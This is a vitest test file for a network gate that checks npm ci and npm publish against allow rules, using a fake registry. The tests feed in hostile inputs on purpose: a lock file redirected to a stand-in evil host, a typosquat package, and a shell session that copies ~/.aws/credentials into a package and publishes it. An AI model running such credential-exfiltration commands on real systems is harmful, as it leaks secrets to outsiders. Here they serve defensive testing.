import { realpathSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { FakeRegistry, packNpm } from '../../src/gate/packages/testing/registry.ts'
import { integrityOf } from '../integration/package-registry.ts'
import { EVIL_HOST, openStage, type Played, type Stage } from './stage.ts'
import type { Answer } from './world.ts'

const HOST = 'npm.tools.test'
const NPM = 'node /opt/npm/bin/npm-cli.js'

/** Packages of this test alone, one of another scope, one that depends on another. */
const FILES = {
  'sekisho-tools-first': packNpm({ name: 'sekisho-tools-first', main: 'index.js' }, [
    { path: 'package/index.js', content: 'module.exports = 1\n' },
  ]),
  'sekisho-tools-second': packNpm(
    { name: 'sekisho-tools-second', dependencies: { 'sekisho-tools-first': '1.0.0' } },
    [
      {
        path: 'package/index.js',
        content: "module.exports = 1 + require('sekisho-tools-first')\n",
      },
    ],
  ),
  '@sekisho-tools/third': packNpm({ name: '@sekisho-tools/third', bin: { third: 'third.js' } }, [
    { path: 'package/third.js', content: "#!/usr/bin/env node\nconsole.log('third')\n" },
  ]),
} as const

let stage: Stage
beforeAll(async () => {
  const registry = new FakeRegistry()
  registry.origin = `https://${HOST}`
  for (const [name, tarball] of Object.entries(FILES)) registry.add(name, '1.0.0', { tarball })
  const answer: Answer = ({ target }, response) => {
    const body = registry.bodyOf(target)
    if (body === undefined) return void response.writeHead(404).end('{"error":"Not found"}')
    response.writeHead(200).end(body)
  }
  stage = await openStage({
    answers: { [HOST]: answer },
    rules: [{ id: 'npm', effect: 'allow', host: HOST, packages: 'npm' }],
    mounts: [{ source: dirname(dirname(npmProgram())), target: '/opt/npm' }],
  })
})
afterAll(async () => stage?.close())

/** The npm that runs this test, or the first on the path. */
function npmProgram(): string {
  const own = process.env['npm_execpath']
  if (own?.endsWith('npm-cli.js') === true) return own
  const found = (process.env['PATH'] ?? '').split(':').flatMap((directory) => {
    try {
      return [realpathSync(join(directory, 'npm'))]
    } catch {
      return []
    }
  })
  const program = found.find((path) => path.endsWith('npm-cli.js'))
  if (program === undefined) throw new Error('there is no npm on the path')
  return program
}

type Locked = { host?: string; integrity?: string }

/** A project at whose lock file `npm ci` looks, in the words of a shell. */
function project(
  named: string,
  files: Readonly<Record<string, Buffer>>,
  changed: Readonly<Record<string, Locked>> = {},
): string {
  const dependencies = Object.fromEntries(Object.keys(files).map((name) => [name, '1.0.0']))
  const root = { name: named, version: '1.0.0', dependencies }
  const locked = Object.entries(files).map(([name, file]) => {
    const { host = HOST, integrity = integrityOf(file) } = changed[name] ?? {}
    const resolved = `https://${host}/${name}/-/${name.split('/').at(-1)}-1.0.0.tgz`
    return [`node_modules/${name}`, { version: '1.0.0', resolved, integrity }]
  })
  const packages = { '': root, ...Object.fromEntries(locked) }
  return `
    mkdir /tmp/project && cd /tmp/project
    printf '%s\\n' 'registry=https://${HOST}/' 'fetch-retries=0' > .npmrc
    echo '${JSON.stringify(root)}' > package.json
    echo '${JSON.stringify({ ...root, lockfileVersion: 3, packages })}' > package-lock.json
    ${NPM} ci`
}

const ci = (changed: Readonly<Record<string, Locked>> = {}): Promise<Played> =>
  stage.session(`${project('project', FILES, changed)} &&
    node -p "require('sekisho-tools-second')" && find node_modules -name '*.js' | sort`)

const ALL = Object.keys(FILES)

/** npm asks for advisories and for its own newest version; a rule for installs does not grant the first. */
const AUDIT = `deny default POST https ${HOST} /-/npm/v1/security/advisories/bulk`
const installs = ({ actions }: Played): string[] =>
  actions.filter((action) => action !== AUDIT && !action.includes(`GET https ${HOST} /npm `))

test('npm ci installs what the lock file says, dependencies and scopes too', async () => {
  const played = await ci()
  expect(played).toMatchObject({
    code: 0,
    stdout: expect.stringMatching(
      /added 3 packages in .*\n2\n\S+\/third.js\n\S+first\/index.js\n\S+second\/index.js\n$/,
    ),
    stderr: '',
    namesDenied: [],
  })
  expect(installs(played).toSorted()).toEqual(
    ALL.map((name) => `allow npm package.install ${HOST} ${name} → 200`).toSorted(),
  )
  expect(played.arrived.filter((line) => line.startsWith('POST'))).toEqual([])
})

test('npm ci refuses a file that is not what the lock file says', async () => {
  const integrity = integrityOf(Buffer.from('another'))
  const played = await ci({ 'sekisho-tools-first': { integrity } })
  expect(played).toMatchObject({ code: 1, stderr: expect.stringContaining('EINTEGRITY') })
})

test('npm ci gets no file from a host that no rule names', async () => {
  const played = await ci({ 'sekisho-tools-first': { host: EVIL_HOST } })
  expect(played).toMatchObject({
    code: 1,
    stderr: expect.stringContaining(`getaddrinfo ENOTFOUND ${EVIL_HOST}`),
  })
  expect(played.namesDenied).toContain(`deny default dns.resolve A ${EVIL_HOST}`)
  expect(played.arrived.join()).not.toContain('first')
})

test('npm ci gets no file of a look-alike', async () => {
  const played = await stage.session(project('lodahs', { lodahs: packNpm({ name: 'lodahs' }) }))
  expect(played).toMatchObject({
    code: 1,
    stderr: expect.stringContaining('one slip away from a well-known one'),
  })
  expect(installs(played)).toEqual([`deny packages.typo package.install ${HOST} lodahs`])
  expect(played.arrived.join()).not.toContain('lodahs')
})

test('npm publish sends nothing where a rule is for installs', async () => {
  const played = await stage.session(`
    mkdir /tmp/stolen && cd /tmp/stolen
    printf '%s\\n' 'registry=https://${HOST}/' '//${HOST}/:_authToken=none' > .npmrc
    echo '{ "name": "sekisho-tools-stolen", "version": "1.0.0" }' > package.json
    cp "$HOME/.aws/credentials" notes.txt
    ${NPM} publish`)
  expect(played).toMatchObject({ code: 1, stderr: expect.stringContaining('E403') })
  expect(played.actions.at(-1)).toBe(`deny default PUT https ${HOST} /sekisho-tools-stolen`)
  expect(played.arrived.join()).not.toContain('PUT')
})
